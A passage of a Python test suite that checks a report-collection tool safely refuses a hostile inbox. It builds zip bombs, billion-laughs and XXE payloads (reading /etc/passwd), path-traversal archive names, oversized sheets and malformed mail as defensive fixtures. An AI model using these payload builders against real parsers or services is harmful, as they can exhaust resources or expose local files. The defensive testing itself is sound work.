"""Hostile input: whatever lands in 收件箱 is archived, recorded with a reason, and never
crashes a run, escapes the workspace, or carries a formula, link or macro into an output.

Every hostile file is built here, in the test, from a few kilobytes of code: zip bombs
from repeated deflate blocks, the 500,000-row sheet streamed into the zip, the encrypted
workbook with msoffcrypto-tool. Nothing large is committed.
"""

from __future__ import annotations

import email.utils
import hashlib
import io
import os
import re
import sqlite3
import struct
import subprocess
import sys
import time
import uuid
import zipfile
import zlib
from email.header import Header
from email.mime.application import MIMEApplication
from email.mime.multipart import MIMEMultipart
from email.mime.text import MIMEText
from pathlib import Path

import pytest
from conftest import drop, encrypted, on_time, rewrite_zip, with_macros, zip_bytes
from openpyxl import load_workbook

from toolkit.actions.collect import collect
from toolkit.checks import CheckContext, check_return
from toolkit.filling import Answer, Filling
from toolkit.ledger import Ledger
from toolkit.period import Period
from toolkit.settings import DEFAULT_LIMITS
from toolkit.text import safe_filename

MAX_NESTING = DEFAULT_LIMITS.max_nesting

ROOT = Path(__file__).resolve().parent.parent
DONE = Answer(status="已完成", progress=100, work="已按要求全面完成。", evidence="东政数〔2022〕8号")
GIB = 1 << 30

# ---------------------------------------------------------------------------
# building hostile spreadsheets by hand

_CT = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
       '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
       '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
       '<Default Extension="xml" ContentType="application/xml"/>'
       '<Override PartName="/xl/workbook.xml" '
       'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
       '<Override PartName="/xl/worksheets/sheet1.xml" '
       'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
       '<Override PartName="/xl/sharedStrings.xml" '
       'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
       '</Types>')
_RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
         '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
         '<Relationship Id="rId1" Target="xl/workbook.xml" Type="http://schemas.openxmlformats.org/'
         'officeDocument/2006/relationships/officeDocument"/></Relationships>')
_WB = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
       '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
       'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
       '<sheets><sheet name="进展填报" sheetId="1" r:id="rId1"/></sheets></workbook>')
_WB_RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Target="worksheets/sheet1.xml" Type="http://schemas.openxmlformats.org/'
            'officeDocument/2006/relationships/worksheet"/>'
            '<Relationship Id="rId2" Target="sharedStrings.xml" Type="http://schemas.openxmlformats.org/'
            'officeDocument/2006/relationships/sharedStrings"/></Relationships>')
_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
HEADERS = ("任务编号", "一级任务", "二级任务", "工作任务", "具体工作内容", "完成时限", "责任类型", "完成状态",
           "完成进度(%)", "工作进展", "存在问题", "下一步计划", "预计完成时间", "佐证材料")
# A DTD that expands to 10^9 "lol"s (3 GB) if a parser honours it.
LAUGHS = ('<!DOCTYPE lolz [<!ENTITY lol "lol">'
          + "".join(f'<!ENTITY lol{i} "{(f"&lol{i - 1};" if i > 1 else "&lol;") * 10}">' for i in range(1, 10))
          + "]>")
XXE = '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


def sheet_xml(rows: str, prolog: str = "") -> str:
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{prolog}'
            f"<worksheet {_NS}><sheetData>{rows}</sheetData></worksheet>")


def sst_xml(items: str, prolog: str = "") -> str:
    return f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{prolog}<sst {_NS}>{items}</sst>'


def inline(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def header_row(r: int = 4) -> str:
    return f'<row r="{r}">' + "".join(inline(f"{chr(65 + i)}{r}", h) for i, h in enumerate(HEADERS)) + "</row>"


def package(sheet: str | bytes, sst: str | bytes | None = None) -> bytes:
    """A minimal .xlsx with one sheet 进展填报."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, text in _small_parts():
            z.writestr(name, text)
        z.writestr("xl/worksheets/sheet1.xml", sheet)
        z.writestr("xl/sharedStrings.xml", sst if sst is not None else sst_xml(""))
    return buf.getvalue()


def _small_parts() -> list[tuple[str, str]]:
    return [("[Content_Types].xml", _CT), ("_rels/.rels", _RELS), ("xl/workbook.xml", _WB),
            ("xl/_rels/workbook.xml.rels", _WB_RELS)]


def deflate_repeat(prefix: bytes, unit: bytes, times: int, suffix: bytes) -> bytes:
    """Raw deflate of ``prefix + unit * times + suffix`` in O(len(unit)) time.

    After Z_FULL_FLUSH the compressor starts afresh, so every repetition of ``unit``
    compresses to the same bytes, which are simply repeated: 1 GiB costs ~1 MB.
    """
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = c.compress(prefix) + c.flush(zlib.Z_FULL_FLUSH)
    block = c.compress(unit) + c.flush(zlib.Z_FULL_FLUSH)
    return head + block * times + c.compress(suffix) + c.flush(zlib.Z_FINISH)


def raw_zip(entries: list[tuple[str, bytes, int, int, int]]) -> bytes:
    """A zip from (name, payload, method, declared size, crc): headers say what we say."""
    out = io.BytesIO()
    central = []
    for name, payload, method, size, crc in entries:
        n = name.encode("utf-8")
        offset = out.tell()
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0x800, method, 0, 0x21, crc,
                              len(payload), size, len(n), 0) + n + payload)
        central.append(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0x800, method, 0, 0x21, crc,
                                   len(payload), size, len(n), 0, 0, 0, 0, 0, offset) + n)
    start = out.tell()
    for c in central:
        out.write(c)
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(central), len(central), out.tell() - start, start, 0))
    return out.getvalue()


def _stored(name: str, text: str) -> tuple[str, bytes, int, int, int]:
    data = text.encode("utf-8")
    return name, data, 0, len(data), zlib.crc32(data)


def bomb_xlsx(part: str = "sheet", gib: float = 2, understate: bool | int = False) -> bytes:
    """An .xlsx of ~1 MB per GiB whose sheet (or sharedStrings) inflates to ``gib`` GiB.

    understate=True: the headers claim 1,000 bytes (with the CRC of those 1,000 bytes),
    so a reader that trusts them is fooled; the stream still holds gigabytes. understate=0
    claims no bytes at all (zlib reads a limit of 0 as "no limit").
    """
    mib = int(gib * 1024)
    if part == "sheet":
        name = "xl/worksheets/sheet1.xml"
        prefix = sheet_xml("").split("<sheetData>")[0].encode() + b"<sheetData>"
        unit = b'<row><c t="inlineStr"><is><t>' + b"A" * (1 << 20) + b"</t></is></c></row>"
        suffix = b"</sheetData></worksheet>"
        other = _stored("xl/sharedStrings.xml", sst_xml(""))
    else:
        name = "xl/sharedStrings.xml"
        prefix = sst_xml("").split("</sst>")[0].encode()
        unit = b"<si><t>" + b"A" * (1 << 20) + b"</t></si>"
        suffix = b"</sst>"
        other = _stored("xl/worksheets/sheet1.xml", sheet_xml('<row r="1"><c r="A1" t="s"><v>0</v></c></row>'))
    payload = deflate_repeat(prefix, unit, mib, suffix)
    size = len(prefix) + len(unit) * mib + len(suffix)
    crc = 0
    if understate is not False:
        size = 1000 if understate is True else understate
        crc = zlib.crc32((prefix + unit)[:size])
    return raw_zip([_stored(n, t) for n, t in _small_parts()] + [other, (name, payload, 8, min(size, 0xFFFFFFFF), crc)])


def rows_xlsx(rows: int) -> bytes:
    """A return-shaped sheet with ``rows`` task rows, XML streamed into the zip."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, text in _small_parts():
            z.writestr(name, text)
        z.writestr("xl/sharedStrings.xml", sst_xml(""))
        with z.open("xl/worksheets/sheet1.xml", "w") as f:
            f.write(sheet_xml("").split("<sheetData>")[0].encode() + b"<sheetData>" + header_row().encode())
            batch = []
            for r in range(5, rows + 5):
                batch.append(f'<row r="{r}">{inline(f"A{r}", f"1.{r}")}{inline(f"H{r}", "序时推进")}'
                             f'<c r="I{r}"><v>{r % 100}</v></c>{inline(f"J{r}", "按计划推进")}</row>')
                if len(batch) == 20000:
                    f.write("".join(batch).encode())
                    batch = []
            f.write("".join(batch).encode() + b"</sheetData></worksheet>")
    return buf.getvalue()


def far_cell_xlsx(ref: str = "XFD1048576", prefix: str = "", second_r: str | None = None) -> bytes:
    """Two cells, A1 and ``ref``: a reader with a dense grid needs 17 billion cells.

    ``prefix`` writes the far cell as ``<9:c`` (calamine matches tags by local name, any
    prefix); ``second_r`` writes it ``<c r="B1"`` + second_r + ``r="ref">`` (calamine takes
    the last ``r``, even with no space before it: ``<c r="B1"r="ref">``)."""
    far = (f'<c r="B1"{second_r}r="{ref}"><v>2</v></c>' if second_r is not None
           else f'<{prefix}c r="{ref}"><v>2</v></{prefix}c>')
    return package(sheet_xml(f'<row r="1"><c r="A1"><v>1</v></c></row>'
                             f'<row r="{re.sub("[A-Z]", "", ref)}">{far}</row>'))


def hidden_sheet_xlsx(part: str) -> bytes:
    """``far_cell_xlsx``'s sheet stored under a part name that normally holds no cells
    (docProps/, xl/theme/, ...): the workbook's relationship points there, and calamine reads it."""
    far = far_cell_xlsx()
    buf = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(far)) as src, zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for info in src.infolist():
            data = src.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                z.writestr(part, data)
                continue
            if info.filename == "xl/_rels/workbook.xml.rels":
                data = data.replace(b'Target="worksheets/sheet1.xml"', f'Target="/{part}"'.encode())
            z.writestr(info.filename, data)
    return buf.getvalue()


def ods_package(rows: str) -> bytes:
    """An .ods whose sheet 进展填报 holds ``rows`` (ODF table rows)."""
    content = ('<?xml version="1.0" encoding="UTF-8"?><office:document-content '
               'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
               'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
               'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">'
               '<office:body><office:spreadsheet><table:table table:name="进展填报">' + rows +
               '</table:table></office:spreadsheet></office:body></office:document-content>')
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        z.writestr("META-INF/manifest.xml",
                   '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest '
                   'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
                   '<manifest:file-entry manifest:full-path="/" '
                   'manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
                   '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
                   "</manifest:manifest>")
        z.writestr("content.xml", content, zipfile.ZIP_DEFLATED)
    return buf.getvalue()


def ods_bomb() -> bytes:
    """An .ods of 1 KB whose one cell repeats 100,000 × 1,000 times (calamine: 6 GB)."""
    return ods_package('<table:table-row table:number-rows-repeated="100000">'
                       '<table:table-cell table:number-columns-repeated="1000" office:value-type="float" '
                       'office:value="1"><text:p>1</text:p></table:table-cell></table:table-row>')


def mimetype_bomb() -> bytes:
    """An .ods whose ``mimetype`` entry honestly declares 2 GiB: sniffing must not read it."""
    payload = deflate_repeat(b"application/vnd.oasis.opendocument.spreadsheet", b"\0" * (1 << 20), 2048, b"")
    return raw_zip([("mimetype", payload, 8, 2 * GIB, 0), _stored("content.xml", "<x/>")])


def billion_laughs(where: str) -> bytes:
    if where == "sst":
        return package(sheet_xml('<row r="1"><c r="A1" t="s"><v>0</v></c></row>'),
                       sst_xml("<si><t>&lol9;</t></si>", LAUGHS))
    return package(sheet_xml(header_row() + f'<row r="5">{inline("A5", "1.2")}{inline("J5", "&lol9;")}</row>',
                             LAUGHS))


def external_entity(where: str) -> bytes:
    if where == "sst":
        return package(sheet_xml(header_row() + '<row r="5"><c r="A5" t="s"><v>0</v></c>'
                                 '<c r="J5" t="s"><v>0</v></c></row>'),
                       sst_xml("<si><t>&xxe;</t></si>", XXE))
    return package(sheet_xml(header_row() + f'<row r="5">{inline("A5", "1.2")}{inline("J5", "&xxe;")}</row>', XXE))


def with_sheet_xml(data: bytes, change) -> bytes:
    """Rewrite the first sheet's XML of a return (what no spreadsheet program would write)."""
    return rewrite_zip(data, lambda name, body: change(body) if name == "xl/worksheets/sheet1.xml" else body)


def nested_zips(inner: bytes, depth: int) -> bytes:
    data, name = inner, "石龙镇.xlsx"
    for level in range(depth):
        data, name = zip_bytes({name: data}), f"第{depth - level}层.zip"
    return data


def many_entries_zip(n: int = 1500) -> bytes:
    return zip_bytes({f"f{i}.txt": b"x" for i in range(n)})


# ---------------------------------------------------------------------------
# hostile mail


def mail(subject: str, attachments: list[tuple[str, bytes]], *, cte: str = "base64") -> bytes:
    msg = MIMEMultipart()
    msg["From"] = email.utils.formataddr((str(Header("石龙镇", "utf-8")), "shilong@example.cn"))
    msg["To"] = "duban@example.cn"
    msg["Subject"] = Header(subject, "utf-8")
    msg["Date"] = "Mon, 04 Jul 2022 10:00:00 +0800"
    msg.attach(MIMEText("请查收。", "plain", "utf-8"))
    for name, data in attachments:
        part = MIMEApplication(data, "octet-stream")
        part.add_header("Content-Disposition", "attachment", filename=("utf-8", "", name))
        msg.attach(part)
    return msg.as_bytes()


def mail_in_mail(levels: int) -> bytes:
    """A mail whose attachment is a mail whose attachment is a mail ..., sent 8bit (no growth)."""
    data = b"not a spreadsheet"
    name = "最里层.xlsx"
    for level in range(levels):
        data = (b"From: a@example.cn\r\nSubject: level\r\nMIME-Version: 1.0\r\n"
                b'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\n'
                b'Content-Type: application/octet-stream; name="%s"\r\nContent-Transfer-Encoding: 8bit\r\n'
                b'Content-Disposition: attachment; filename="%s"\r\n\r\n' % (level, level, name.encode(), name.encode())
                + data + b"\r\n--b%d--\r\n" % level)
        name = f"第{level}层.eml"
    return data


MALFORMED_MAIL = (
    b"From: =?utf-8?B?!!!not-base64?= <x@example.cn>\r\n"
    b"Subject: =?x-no-such-charset?Q?=E6=8A=A5=E9=80=81?= \xb1\xa8\xcb\xcd\r\n"
    b"Date: Mon, 1 Jan 0001 00:00:00 +1400\r\n"
    b"MIME-Version: 1.0\r\n"
    b"Content-Type: multipart/mixed; boundary=\"never-closed\"\r\n"
    b"X-Long: " + b"A" * 100_000 + b"\r\n\r\n"
    b"--never-closed\r\n"
    b"Content-Type: application/octet-stream; name=\"=?gb2312?B?????==?=.xlsx\"\r\n"
    b"Content-Transfer-Encoding: base64\r\n"
    b"Content-Disposition: attachment; filename*=utf-8''%E6%8A%A5%ZZ.xlsx\r\n\r\n"
    b"!!!! this is not base64 @@@@\r\n"
    b"--never-closed\r\n"
    b"Content-Type: multipart/mixed\r\n\r\n"
    b"no boundary parameter at all\r\n"
)


def deep_multipart(depth: int = 300) -> bytes:
    head = b"From: a@example.cn\r\nSubject: deep\r\nMIME-Version: 1.0\r\n"
    body = b"Content-Type: text/plain\r\n\r\nbottom\r\n"
    for i in range(depth):
        body = (b'Content-Type: multipart/mixed; boundary="d%d"\r\n\r\n--d%d\r\n' % (i, i)) + body + b"\r\n--d%d--\r\n" % i
    return head + body


# ---------------------------------------------------------------------------
# the hostile inbox


def passwd_marker() -> bytes:
    try:
        first = Path("/etc/passwd").read_bytes().splitlines()[0]
    except (OSError, IndexError):
        return b"root:x:0:0"
    return first[:20]


def filled(make_return, unit: str = "石龙镇", **answers) -> bytes:
    return make_return(unit, Filling(answers={"1.2": DONE}), **answers)


def control_and_bidi(make_return) -> bytes:
    """Bidi overrides, zero-width marks and C0 controls (as OOXML's _xHHHH_ escapes) in cells."""
    data = make_return("长安镇", **{"1_2": Answer(status="已完成", progress=100, evidence="东政〔2022〕1号",
                                                 work="正常\u202e推进\u200b完成CTRLMARK")})
    return with_sheet_xml(data, lambda xml: xml.replace(b"CTRLMARK", b"_x0007__x001B_"))


def hostile_inbox(make_return, tmp: Path) -> dict[str, tuple[bytes, str, set[str]]]:
    """{inbox name: (bytes, expected outcome of the top receipt, codes that must be recorded)}.

    Expected codes are looked for on the top receipt and everything inside it.
    """
    valid = filled(make_return)
    absolute = f"/tmp/duban-escape-{uuid.uuid4().hex}.xlsx"
    return {
        "石龙镇_正常.xlsx": (valid, "采纳", set()),
        "压缩炸弹.xlsx": (bomb_xlsx("sheet", 4), "无法读取", {"E104"}),
        "压缩炸弹_少报大小.xlsx": (bomb_xlsx("sheet", 2, understate=True), "无法读取", {"E101"}),
        "共享字符串炸弹.xlsx": (bomb_xlsx("sst", 2), "无法读取", {"E104"}),
        "共享字符串炸弹_少报大小.xlsx": (bomb_xlsx("sst", 2, understate=True), "无法读取", {"E101"}),
        "压缩炸弹_声明零字节.xlsx": (bomb_xlsx("sheet", 2, understate=0), "无法读取", {"E101"}),
        "mimetype炸弹.ods": (mimetype_bomb(), "无法读取", {"E104"}),
        "十亿笑声_共享字符串.xlsx": (billion_laughs("sst"), "无法读取", {"E101"}),
        "十亿笑声_工作表.xlsx": (billion_laughs("sheet"), "无法读取", {"E101"}),
        "外部实体_共享字符串.xlsx": (external_entity("sst"), "无法读取", {"E101"}),
        "外部实体_工作表.xlsx": (external_entity("sheet"), "无法读取", {"E101"}),
        "截断.xlsx": (valid[: len(valid) // 2], "无法读取", {"E101"}),
        "空文件.xlsx": (b"", "无法读取", {"E101"}),
        "随机字节.xlsx": (os.urandom(64 * 1024), "无法读取", {"E101"}),
        "其实是PDF.xlsx": (b"%PDF-1.4\n%\xe2\xe3\n1 0 obj<<>>endobj\n", "无法读取", {"E103"}),
        "其实是Word.xlsx": (zip_bytes({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"}),
                          "无法读取", {"E103"}),
        "加密.xlsx": (encrypted(valid), "无法读取", {"E102"}),
        "五十万行.xlsx": (rows_xlsx(500_000), "无法读取", {"E104"}),
        "远处的单元格.xlsx": (far_cell_xlsx(), "无法读取", {"E104"}),
        "远处的单元格_数字前缀.xlsx": (far_cell_xlsx(prefix="9:"), "无法读取", {"E104"}),
        "远处的单元格_空前缀.xlsx": (far_cell_xlsx(prefix=":"), "无法读取", {"E104"}),
        "远处的单元格_中文前缀.xlsx": (far_cell_xlsx(prefix="前:"), "无法读取", {"E104"}),
        "远处的单元格_两个r.xlsx": (far_cell_xlsx(second_r=" "), "无法读取", {"E104"}),
        "远处的单元格_两个r无空格.xlsx": (far_cell_xlsx(second_r=""), "无法读取", {"E104"}),
        "远处的单元格_另一属性后的r.xlsx": (far_cell_xlsx(second_r=' t="n"'), "无法读取", {"E104"}),
        "工作表藏在docProps.xlsx": (hidden_sheet_xlsx("docProps/app2.xml"), "无法读取", {"E104"}),
        "工作表藏在主题.xlsx": (hidden_sheet_xlsx("xl/theme/theme9.xml"), "无法读取", {"E104"}),
        "重复单元格炸弹.ods": (ods_bomb(), "无法读取", {"E104"}),
        "十万字.xlsx": (filled(make_return, "虎门镇", **{"1_2": Answer(
            status="已完成", progress=100, evidence="东政〔2022〕2号", work="进" * 100_000)}), "采纳", {"W507"}),
        "控制字符.xlsx": (control_and_bidi(make_return), "采纳", set()),
        "宏.xlsm": (with_macros(filled(make_return, "东城街道")), "采纳", {"W106"}),
        "路径穿越.zip": (zip_bytes({
            "../../../逃逸.xlsx": b"x", absolute: b"x", "C:\\Windows\\System32\\逃逸.xlsx": b"x",
            "..\\..\\逃逸2.xlsx": b"x", "CON": b"x", "con.tar.gz": b"x", "AUX.xlsx": b"x",
            "正常/../../../../etc/逃逸3.xlsx": b"x"}), "已拆包", {"E101"}),
        "六层嵌套.zip": (nested_zips(filled(make_return, "莞城街道"), 6), "已拆包", {"E104"}),
        "一千五百个文件.zip": (many_entries_zip(), "无法读取", {"E104"}),
        "附件名穿越.eml": (mail("报送", [("../../../../逃逸.xlsx", filled(make_return, "南城街道")),
                                    ("..\\..\\CON.xlsx", b"junk"), ("/etc/cron.d/逃逸", b"junk")]),
                        "已拆包", {"E101"}),
        "截断的邮件.eml": (mail("截断", [("万江街道.xlsx", filled(make_return, "万江街道"))])[:3000],
                       "已拆包", {"E101"}),
        "畸形邮件.eml": (MALFORMED_MAIL, "已拆包", set()),
        "深层嵌套邮件.eml": (deep_multipart(), "已拆包", set()),
        "邮件套邮件.eml": (mail_in_mail(MAX_NESTING + 3), "已拆包", {"E104"}),
        # crafted names in the inbox itself
        "CON.xlsx": (b"PK\x03\x04 truncated", "无法读取", {"E101"}),
        "报表\u202exslx.exe": (os.urandom(1000), "无法读取", {"E103"}),
        "换\n行.xlsx": (b"junk1", "无法读取", {"E101"}),
        "报" * 80 + ".xlsx": (b"junk2", "无法读取", {"E101"}),
        "-rf .xlsx": (b"junk3", "无法读取", {"E101"}),
        os.fsdecode("GBK名字".encode() + b"\xb1\xa8\xb1\xed.xlsx"): (b"junk4", "无法读取", {"E101"}),
    }, absolute


def _tree(folder: Path, skip: Path) -> dict[str, tuple[int, int]]:
    out = {}
    for root, _dirs, files in os.walk(folder):
        if Path(root) == skip or skip in Path(root).parents:
            continue
        for f in files:
            p = Path(root) / f
            st = p.lstat()
            out[str(p)] = (st.st_size, st.st_mtime_ns)
    return out


def run_measured(args: list[str], cwd: Path, timeout: float = 300) -> tuple[int, str, str, float, int]:
    """(exit code, stdout, stderr, seconds, peak RSS in bytes) of a subprocess.

    The peak is the child's own high-water mark (VmHWM, sampled every 50 ms while it runs):
    on Linux the child's ru_maxrss also counts the pytest worker it was started from
    (vfork, then exec keeps the old memory's high-water mark), which after a few hundred
    tests passed 200 MB on its own. ru_maxrss is the fallback where /proc is missing.
    """
    env = dict(os.environ, PYTHONPATH=os.pathsep.join(filter(None, [str(ROOT), os.environ.get("PYTHONPATH")])))
    out, err = cwd.parent / f".out-{uuid.uuid4().hex}", cwd.parent / f".err-{uuid.uuid4().hex}"
    started = time.monotonic()
    hwm = 0
    with open(out, "wb") as fo, open(err, "wb") as fe:
        proc = subprocess.Popen(args, cwd=cwd, stdout=fo, stderr=fe, env=env)
        deadline = started + timeout
        while True:
            hwm = max(hwm, _vm_hwm(proc.pid))
            pid, status, usage = os.wait4(proc.pid, os.WNOHANG)
            if pid:
                break
            if time.monotonic() > deadline:
                proc.kill()
                pid, status, usage = os.wait4(proc.pid, 0)
                break
            time.sleep(0.05)
    proc.returncode = os.waitstatus_to_exitcode(status)
    seconds = time.monotonic() - started
    texts = out.read_text("utf-8", "replace"), err.read_text("utf-8", "replace")
    out.unlink()
    err.unlink()
    return proc.returncode, texts[0], texts[1], seconds, hwm or usage.ru_maxrss * 1024


def _vm_hwm(pid: int) -> int:
    """The peak resident memory of a running process's own address space, in bytes (0 if unknown)."""
    try:
        for line in Path(f"/proc/{pid}/status").read_text().splitlines():
            if line.startswith("VmHWM:"):
                return int(line.split()[1]) * 1024
    except (OSError, ValueError, IndexError):
        pass
    return 0


def test_hostile_inbox_is_collected_safely(issued_ws, make_return, tmp_path):
    """The whole hostile inbox through `duban collect` in a subprocess: no traceback, every
    input archived and recorded with a reason, nothing written outside the workspace,
    peak memory under 1 GB, all of it in under 2 minutes."""
    ws = issued_ws
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "sentinel.txt").write_text("不许动")
    inputs, absolute = hostile_inbox(make_return, tmp_path)
    for name, (data, _, _) in inputs.items():
        drop(ws, name, data, on_time())
    os.symlink("/etc/passwd", ws.inbox / "passwd.xlsx")
    before = _tree(tmp_path, ws.root)

    code, out, err, seconds, peak = run_measured([sys.executable, "-m", "toolkit", "collect"], ws.root)
    print(f"hostile inbox of {len(inputs) + 1} files: {seconds:.1f} s, peak RSS {peak / 1048576:.0f} MB")

    assert "Traceback" not in err and "内部错误" not in err, err
    assert code == 1, (code, out, err)  # returns refused: exit 1, as documented
    assert seconds < 120, seconds
    assert peak < GIB, f"peak RSS {peak / 1048576:.0f} MB"
    after = _tree(tmp_path, ws.root)
    assert after == before  # nothing outside the workspace was written or touched
    assert not Path(absolute).exists()
    assert sorted(p.name for p in ws.inbox.rglob("*")) == ["passwd.xlsx"]  # a symlink is never followed

    con = sqlite3.connect(ws.ledger_path)
    con.row_factory = sqlite3.Row
    assert con.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
    receipts = con.execute("SELECT * FROM receipts ORDER BY id").fetchall()
    issues = {}
    for r in con.execute("SELECT * FROM issues"):
        issues.setdefault(r["receipt_id"], []).append(r)
    children = {}
    for r in receipts:
        children.setdefault(r["parent_id"], []).append(r)

    def subtree(r):
        yield r
        for c in children.get(r["id"], []):
            yield from subtree(c)

    tops = {r["inbox_path"]: r for r in children[None]}
    shown = {name: name.encode("utf-8", "surrogateescape").decode("gb18030") if "\udcb1" in name else name
             for name in inputs}
    assert sorted(tops) == sorted(shown.values())
    marker = passwd_marker()
    for name, (data, outcome, codes) in inputs.items():
        top = tops[shown[name]]
        assert top["sha256"] == hashlib.sha256(data).hexdigest()
        assert (ws.root / top["archive_path"]).read_bytes() == data  # byte for byte
        assert top["outcome"] == outcome, (name, top["outcome"], [i["code"] for i in issues.get(top["id"], [])])
        found = {i["code"] for r in subtree(top) for i in issues.get(r["id"], [])}
        assert codes <= found, (name, found)
    for r in receipts:
        archived = ws.root / r["archive_path"]
        assert archived.resolve().is_relative_to((ws.root / "归档").resolve())
        assert hashlib.sha256(archived.read_bytes()).hexdigest() == r["sha256"]
        assert archived.name == f"{r['sha256'][:12]}_{safe_filename(r['name'])}"
        assert not re.match(r"(?i)(con|prn|aux|nul|com\d|lpt\d)(\.|$)", r["name"])
        assert ".." not in r["name"] and "/" not in r["name"] and "\\" not in r["name"]
        assert not re.search("[\u202a-\u202e\u2066-\u2069\x00-\x1f]", r["name"] + r["source"])
        if r["outcome"] in ("退回", "无法读取"):  # refused: always with a reason
            assert any(i["severity"] == "错误" and i["message"] for i in issues.get(r["id"], [])), dict(r)
    # what an external entity points at never gets in: not the ledger, not any output
    for path in ws.root.rglob("*"):
        if path.is_file() and not path.is_symlink() and "归档" not in path.parts:
            assert marker not in path.read_bytes(), path
    # the 100,000-character cell is kept to the limit, with a short message
    long_row = con.execute("SELECT work FROM rows JOIN receipts ON receipts.id = rows.receipt_id "
                           "WHERE receipts.name = '十万字.xlsx' AND rows.task = '1.2'").fetchone()
    assert long_row["work"] == "进" * ws.limits.max_text_chars
    assert max(len(i["message"]) for rs in issues.values() for i in rs) < 500
    # bidi marks and control characters never reach the ledger
    work = con.execute("SELECT work FROM rows JOIN receipts ON receipts.id = rows.receipt_id "
                       "WHERE receipts.name = '控制字符.xlsx' AND rows.task = '1.2'").fetchone()["work"]
    assert work == "正常推进完成"
    con.close()
    assert "收件箱 38 个文件" in out or "收件箱" in out


# ---------------------------------------------------------------------------
# each refusal, in process, with its code and a Chinese reason


def _check(ws, data: bytes, name: str):
    return check_return(data, name, CheckContext(ws.load_master(), ws.limits, period=Period(2022, 6)))


@pytest.mark.parametrize("name, build, code", [
    ("bomb.xlsx", lambda: bomb_xlsx("sheet", 4), "E104"),
    ("bomb_understated.xlsx", lambda: bomb_xlsx("sheet", 2, understate=True), "E101"),
    ("sst_bomb.xlsx", lambda: bomb_xlsx("sst", 2), "E104"),
    ("mimetype_bomb.ods", mimetype_bomb, "E104"),
    ("laughs_sst.xlsx", lambda: billion_laughs("sst"), "E101"),
    ("laughs_sheet.xlsx", lambda: billion_laughs("sheet"), "E101"),
    ("xxe_sst.xlsx", lambda: external_entity("sst"), "E101"),
    ("xxe_sheet.xlsx", lambda: external_entity("sheet"), "E101"),
    ("empty.xlsx", lambda: b"", "E101"),
    ("random.xlsx", lambda: os.urandom(4096), "E101"),
    ("pdf.xlsx", lambda: b"%PDF-1.7\n", "E103"),
    ("rows.xlsx", lambda: rows_xlsx(500_000), "E104"),
    ("rows_6000.xlsx", lambda: rows_xlsx(6000), "E104"),  # small range, over max_rows
    ("far.xlsx", far_cell_xlsx, "E104"),
    ("far_row.xlsx", lambda: far_cell_xlsx("N200000"), "E104"),
    ("far_col.xlsx", lambda: far_cell_xlsx("XFD200"), "E104"),
    ("repeat.ods", ods_bomb, "E104"),
])
def test_hostile_file_is_refused_with_its_code(issued_ws, name, build, code):
    started = time.monotonic()
    report = _check(issued_ws, build(), name)
    assert [i.code for i in report.issues] == [code]
    assert report.outcome == "无法读取"
    assert re.search("[\u4e00-\u9fff]", report.issues[0].message)
    assert "Traceback" not in report.issues[0].message
    assert time.monotonic() - started < 30


def test_truncated_and_encrypted_returns(issued_ws, make_return):
    valid = filled(make_return)
    for cut in (10, 100, len(valid) // 3, len(valid) - 22, len(valid) - 1):
        report = _check(issued_ws, valid[:cut], "石龙镇.xlsx")
        assert report.outcome == "无法读取" and report.issues[0].code == "E101", cut
    report = _check(issued_ws, encrypted(valid), "石龙镇.xlsx")
    assert [i.code for i in report.issues] == ["E102"]


def test_implicit_cell_positions_are_bounded_too(issued_ws):
    """Cells without an ``r`` are placed one after another; the bound follows them."""
    wide = "<row>" + "<c><v>1</v></c>" * 3 + "</row>" + "<row/>" * 199_990 + "<row><c><v>1</v></c>" * 1 + "</row>"
    report = _check(issued_ws, package(sheet_xml("<row><c><v>1</v></c></row>" + wide.replace("<row/>", "<row></row>")
